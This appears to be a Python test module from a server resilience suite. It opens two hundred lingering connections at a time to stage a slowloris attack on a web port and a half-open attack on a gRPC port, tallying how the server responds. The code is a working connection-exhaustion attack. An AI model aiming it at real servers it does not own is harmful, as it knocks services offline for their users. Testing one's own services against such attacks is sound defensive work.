"""Attacks below the level of calls: connections that say next to nothing and stay."""

from __future__ import annotations

import asyncio
import contextlib
import time
from collections import Counter


def over(end: float) -> bool:
    """Whether the time is up."""
    return time.monotonic() >= end


async def _connections(address: str, first_bytes: bytes, seconds: float) -> Counter[str]:
    """Connections that say little and stay, from an address of their own; closed ones anew."""
    host, port = address.rsplit(":", 1)
    end = time.monotonic() + seconds
    done: Counter[str] = Counter()

    async def one() -> None:
        while not over(end):
            try:
                reader, writer = await asyncio.open_connection(
                    host, int(port), local_addr=("127.0.0.9", 0)
                )
            except OSError:
                done["refused"] += 1
                await asyncio.sleep(0.2)
                continue
            done["opened"] += 1
            with contextlib.suppress(OSError, TimeoutError):
                async with asyncio.timeout(max(0.1, end - time.monotonic())):
                    writer.write(first_bytes)
                    while not reader.at_eof():
                        if first_bytes:
                            writer.write(b"x")
                            await writer.drain()
                        with contextlib.suppress(TimeoutError):
                            async with asyncio.timeout(1.0):
                                if not await reader.read(1_000):
                                    done["closed by the server"] += 1
                                    break
            writer.close()
            await asyncio.sleep(0.05)

    async with asyncio.TaskGroup() as group:
        for _ in range(200):
            group.create_task(one())
    return done


async def slow_loris(_: str, web: str, seconds: float) -> Counter[str]:
    """Two hundred requests whose headers never end, a byte a second."""
    return await _connections(web, b"GET / HTTP/1.1\r\nhost: localhost\r\nx-a: ", seconds)


async def half_open(rpc: str, _: str, seconds: float) -> Counter[str]:
    """Two hundred connections to the gRPC port that never speak HTTP/2."""
    return await _connections(rpc, b"", seconds)
